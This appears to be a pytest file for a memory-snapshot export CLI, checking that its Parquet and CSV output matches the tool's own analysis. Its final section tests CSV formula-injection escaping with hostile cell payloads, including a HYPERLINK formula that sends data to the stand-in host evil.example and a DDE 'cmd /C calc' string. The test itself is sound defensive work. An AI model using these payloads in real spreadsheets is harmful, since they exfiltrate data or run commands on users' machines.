"""`fragviz export` as a user runs it: the bundled samples and real snapshots ingested into a real store, every
kind of export written by the command in both formats, read back with pandas and with DuckDB, and its figures
checked against the report and the replay of the same file (worked out apart from the store)."""
from __future__ import annotations

import glob
import os
import subprocess
import sys

import duckdb
import numpy as np
import pandas as pd
import pytest

from fragviz.replay.analysis import analyze
from fragviz.doctor.report import report_of
from fragviz.snapshot import load_snapshot
from fragviz.usage.kinds import KINDS
from tests.support.helpers import REAL

FRAGVIZ = os.path.join(os.path.dirname(sys.executable), "fragviz")
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SAMPLES = sorted(glob.glob(os.path.join(ROOT, "sample_snapshots", "*.pickle.gz")))
# a long trace with times, two devices, no trace at all, private pools with pending frees, an empty file, segments
# freed in the trace, expandable segments in a sample
REAL_FILES = [os.path.join(REAL, n) for n in (
    "hanmin_train_19k.pickle", "layoutedit_dump_2dev.pickle", "selectn_dev1_notrace.pickle",
    "verl_mempools_pending.pickle", "hitsbe_empty.pickle", "sqattn_segment_free.pickle")]
FILES = SAMPLES + REAL_FILES
WHATS = ("series", "allocations", "segments")

# The interface of the files: columns in order and their pandas dtypes
DTYPES = {
    "series": {"device": "int64", "event": "int64", "time_us": "Int64", "allocated_bytes": "int64",
               "requested_bytes": "int64", "reserved_bytes": "int64", "free_bytes": "int64",
               "largest_free_block": "int64", "non_releasable_bytes": "int64", "fragmentation": "float64",
               "free_scatter": "float64"},
    "allocations": {"device": "int64", "address": "int64", "size": "int64", "requested_size": "int64",
                    "stream": "int64", "start_event": "int64", "end_event": "Int64", "start_us": "Int64",
                    "end_us": "Int64", "site": "string", "kind": "string", "stack": "string"},
    "segments": {"device": "int64", "segment_address": "int64", "segment_size": "int64", "pool": "string",
                 "stream": "int64", "is_expandable": "boolean", "block_address": "int64", "block_size": "int64",
                 "requested_size": "int64", "state": "string", "site": "string"},
}


def run(*args: str, cwd: str | None = None, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([FRAGVIZ, *args], capture_output=True, text=True, cwd=cwd, timeout=300,
                          env={**os.environ, **(env or {})})


@pytest.fixture(scope="module")
def store(tmp_path_factory, real_dir):
    db = str(tmp_path_factory.mktemp("export") / "store.sqlite")
    out = run("ingest", "--db", db, "--no-progress", *FILES)
    assert out.returncode == 0, out.stderr
    ids = {}
    for line in out.stdout.splitlines():
        path, _, rest = line.partition(": ingested as snapshot ")
        ids[path] = int(rest)
    assert sorted(ids) == sorted(FILES)
    return db, ids


@pytest.fixture(scope="module")
def truth():
    """The report and the replay of each file, read from the file itself."""
    cache = {}

    def of(path: str):
        if path not in cache:
            analysis = analyze(load_snapshot(path))
            cache[path] = (report_of(analysis), analysis)
        return cache[path]
    return of


@pytest.fixture(scope="module")
def exported(store, tmp_path_factory):
    """(parquet frame, csv frame, parquet path) of each file and kind, written by `fragviz export`."""
    db, ids = store
    folder = tmp_path_factory.mktemp("files")
    cache = {}

    def of(path: str, what: str):
        if (path, what) not in cache:
            frames = []
            for fmt in ("parquet", "csv"):
                target = str(folder / f"{ids[path]}-{what}.{fmt}")
                out = run("export", str(ids[path]), "--db", db, "--what", what, "--format", fmt, "-o", target)
                assert out.returncode == 0, out.stderr
                assert out.stdout.strip().startswith("wrote ") and target in out.stdout and out.stdout.count("\n") == 1
                frames.append(pd.read_parquet(target) if fmt == "parquet" else read_csv(target, what))
            cache[(path, what)] = (*frames, str(folder / f"{ids[path]}-{what}.parquet"))
        return cache[(path, what)]
    return of


def one(query: str):
    """The single value a DuckDB query answers."""
    (row,) = duckdb.sql(query).fetchall()
    return row[0]


def read_csv(path: str, what: str) -> pd.DataFrame:
    return pd.read_csv(path, dtype=DTYPES[what], keep_default_na=False, na_values=[""])


@pytest.mark.parametrize("what", WHATS)
@pytest.mark.parametrize("path", FILES, ids=os.path.basename)
def test_columns_and_types_and_csv_equal_to_parquet(exported, path, what):
    parquet, csv, file = exported(path, what)
    assert {c: str(t) for c, t in parquet.dtypes.items()} == DTYPES[what]
    pd.testing.assert_frame_equal(csv, parquet)
    # DuckDB reads the file as written by pyarrow: the same rows and column names
    assert one(f"SELECT count(*) FROM '{file}'") == len(parquet)
    assert duckdb.sql(f"SELECT * FROM '{file}' LIMIT 0").columns == list(DTYPES[what])


@pytest.mark.parametrize("path", FILES, ids=os.path.basename)
def test_series_has_every_state_and_agrees_with_the_report_and_the_replay(exported, truth, path):
    series, _, file = exported(path, "series")
    report, analysis = truth(path)
    per_device = dict(duckdb.sql(f"SELECT device, count(*) FROM '{file}' GROUP BY device").fetchall())
    assert per_device == {d.device: d.trace_events + 1 for d in report.devices}
    for d in report.devices:
        rows = series[series.device == d.device]
        replayed = analysis.replays[d.device].series
        assert rows.event.tolist() == list(range(d.trace_events + 1))
        assert rows.reserved_bytes.tolist() == replayed["reserved"].tolist()
        assert rows.allocated_bytes.tolist() == replayed["allocated"].tolist()
        peak = one(f"SELECT max(reserved_bytes) FROM '{file}' WHERE device = {d.device}")
        assert peak == int(replayed["reserved"].max())
        if not any(f"device {d.device}: the trace releases" in w for w in report.warnings):
            assert peak == d.peak_reserved_bytes  # the trace window covers the peak
        assert int(rows.allocated_bytes.iloc[-1]) == d.allocated_bytes
        assert int(rows.reserved_bytes.iloc[-1]) == d.reserved_bytes
        assert rows.free_bytes.tolist() == (rows.reserved_bytes - rows.allocated_bytes).tolist()
        assert ((rows.fragmentation >= 0) & (rows.fragmentation <= 1)).all()
        assert (rows.largest_free_block <= rows.free_bytes.clip(lower=0)).all()
        assert rows.non_releasable_bytes.tolist() == replayed["non_releasable"].tolist()
        assert int(rows.non_releasable_bytes.iloc[-1]) == d.non_releasable_bytes
        reserved = rows.reserved_bytes.where(rows.reserved_bytes > 0)
        expected = (rows.non_releasable_bytes / reserved).fillna(0.0)
        assert np.allclose(rows.fragmentation, expected, rtol=0, atol=1e-12)


@pytest.mark.parametrize("path", FILES, ids=os.path.basename)
def test_series_times_are_the_times_of_the_events_before(exported, truth, path):
    series, _, _ = exported(path, "series")
    _, analysis = truth(path)
    for device, replay in analysis.replays.items():
        times = series[series.device == device].time_us
        trace = replay.trace
        if len(trace) and (trace.time_us >= 0).all():
            assert times.iloc[1:].tolist() == trace.time_us.tolist() and times.iloc[0] == trace.time_us[0]
        else:
            assert times.isna().all()


@pytest.mark.parametrize("path", FILES, ids=os.path.basename)
def test_allocations_are_the_allocs_of_the_trace(exported, truth, path):
    allocations, _, file = exported(path, "allocations")
    report, analysis = truth(path)
    counts = dict(duckdb.sql(f"SELECT device, count(*) FROM '{file}' GROUP BY device").fetchall())
    assert counts == {d.device: d.trace_actions.get("alloc", 0) for d in report.devices
                      if d.trace_actions.get("alloc", 0)}
    for device, replay in analysis.replays.items():
        rows = allocations[allocations.device == device]
        lt = replay.lifetimes()
        made = lt.start > 0
        assert rows["size"].tolist() == lt.size[made].tolist()
        assert rows.address.tolist() == lt.address[made].tolist()
        assert rows.start_event.tolist() == lt.start[made].tolist()
        live = lt.end[made] > len(replay.trace)
        assert rows.end_event.isna().tolist() == live.tolist()
        assert rows.end_event.dropna().astype("int64").tolist() == lt.end[made][~live].tolist()
        assert (rows.site.isna() == rows["stack"].isna()).all()
        # made in the trace, so never parameters (inferred); one without a stack is no_stack, never other
        assert set(rows.kind) <= set(KINDS) - {"parameters_inferred"}
        assert (rows.kind[rows["stack"].isna()] == "no_stack").all()


@pytest.mark.parametrize("path", FILES, ids=os.path.basename)
def test_segments_of_the_final_state_add_up_to_the_report(exported, truth, path):
    segments, _, file = exported(path, "segments")
    report, _ = truth(path)
    for d in report.devices:
        where = f"WHERE device = {d.device}"
        reserved = one(f"SELECT coalesce(sum(segment_size), 0) FROM (SELECT DISTINCT segment_address, "
                       f"segment_size FROM '{file}' {where})")
        assert reserved == d.reserved_bytes
        assert one(f"SELECT count(*) FROM '{file}' {where}") == d.blocks
        rows = segments[segments.device == d.device]
        assert int(rows.block_size[rows.state != "inactive"].sum()) == d.allocated_bytes
        assert rows.segment_address.nunique() == d.segments


@pytest.mark.parametrize("path", [SAMPLES[0], REAL_FILES[0]], ids=os.path.basename)
def test_segments_at_an_event_are_that_state(store, exported, tmp_path, path):
    db, ids = store
    series, _, _ = exported(path, "series")
    device = int(series.device.iloc[0])
    rows = series[series.device == device]
    k = int(rows.reserved_bytes.idxmax() - rows.index[0]) // 2 + 1  # a state on the way up, off any checkpoint
    target = str(tmp_path / "at.parquet")
    out = run("export", str(ids[path]), "--db", db, "--what", "segments", "--format", "parquet", "--at", str(k),
              "--device", str(device), "-o", target)
    assert out.returncode == 0, out.stderr
    state = pd.read_parquet(target)
    assert set(state.device) == {device}
    at_k = rows[rows.event == k].iloc[0]
    assert state.drop_duplicates("segment_address").segment_size.sum() == at_k.reserved_bytes
    assert state.block_size[state.state != "inactive"].sum() == at_k.allocated_bytes


def test_default_name_the_store_from_the_environment_and_csv_on_standard_output(store, tmp_path):
    db, ids = store
    sid = ids[SAMPLES[0]]
    base = os.path.basename(SAMPLES[0]).split(".")[0]
    out = run("export", str(sid), "--format", "csv", "--what", "allocations", cwd=str(tmp_path),
              env={"FRAGVIZ_DB": db})
    assert out.returncode == 0, out.stderr
    written = tmp_path / f"{base}-{sid}-allocations.csv"
    assert written.exists() and str(written.name) in out.stdout
    piped = run("export", str(sid), "--db", db, "--format", "csv", "--what", "allocations", "-o", "-")
    assert piped.returncode == 0 and piped.stdout == written.read_text()
    assert "standard output" in piped.stderr and piped.stderr.count("\n") == 1


@pytest.mark.parametrize("args, words", [
    (["999", "--format", "parquet"], "no snapshot with id 999"),
    (["{sid}", "--format", "parquet", "--device", "7"], "has no device 7"),
    (["{sid}", "--format", "parquet", "--what", "segments", "--at", "99999999"], "event 99999999 is out of range"),
    (["{sid}", "--format", "parquet", "--at", "3"], "--at"),
])
def test_errors_are_one_line_naming_the_store(store, tmp_path, args, words):
    db, ids = store
    out = run("export", *[a.format(sid=ids[SAMPLES[0]]) for a in args], "--db", db, cwd=str(tmp_path))
    assert out.returncode == 2 and out.stdout == ""
    assert out.stderr.count("\n") == 1 and words in out.stderr
    if "--at" not in words:
        assert db in out.stderr
    assert os.listdir(tmp_path) == []


def test_parquet_is_refused_on_standard_output(store):
    db, ids = store
    out = run("export", str(ids[SAMPLES[0]]), "--db", db, "--format", "parquet", "-o", "-")
    assert out.returncode == 2 and out.stdout == "" and out.stderr.count("\n") == 1 and "CSV" in out.stderr


# -- CSV opened in a spreadsheet -------------------------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\uff1d1+1")


def hostile_frames_snapshot(path: str) -> str:
    from tests.support.helpers import block, ev, segment, snapshot, write_pickle

    stack = [{"filename": text, "line": 1, "name": text} for text in FORMULAS]
    events = [ev("segment_alloc", 0, 4 << 20), ev("alloc", 0, 1 << 20, frames=stack),
              ev("alloc", 1 << 20, 1 << 20, frames=stack[1:])]
    seg = segment(0, [block(0, 1 << 20, stack=stack), block(1 << 20, 1 << 20, stack=stack[1:]),
                      block(2 << 20, 2 << 20, "inactive")])
    return write_pickle(path, snapshot([seg], events))


@pytest.mark.parametrize("what", ["allocations", "segments"])
def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_parquet_keeps_them(tmp_path, what):
    """OWASP's rule: a text cell beginning with = + - @ (or a tab or CR before one) gets a leading '."""
    import csv

    from fragviz.base.cells import FORMULA_STARTS

    db = str(tmp_path / "s.sqlite")
    assert run("ingest", "--db", db, "--name", "=cmd|' /C calc'!A0", "--no-progress",
               hostile_frames_snapshot(str(tmp_path / "f.pickle"))).returncode == 0
    assert run("export", "1", "--db", db, "--what", what, "--format", "csv", "-o", str(tmp_path / "x.csv")).returncode == 0
    assert run("export", "1", "--db", db, "--what", what, "--format", "parquet",
               "-o", str(tmp_path / "x.parquet")).returncode == 0
    with open(tmp_path / "x.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    raw = pd.read_parquet(tmp_path / "x.parquet")
    text = [c for c in DTYPES[what] if DTYPES[what][c] == "string"]
    quoted = 0
    for i, row in enumerate(rows):
        for column in text:
            cell, value = row[column], raw[column].iloc[i]
            if pd.isna(value):
                continue
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
            if value.startswith(FORMULA_STARTS):
                assert cell == "'" + value
                quoted += 1
            else:
                assert cell == value
    assert quoted > 0, "no cell began with a formula: the test proves nothing"
    assert any(v.startswith("=HYPERLINK") for c in text for v in raw[c].dropna()), "Parquet changed the cells"
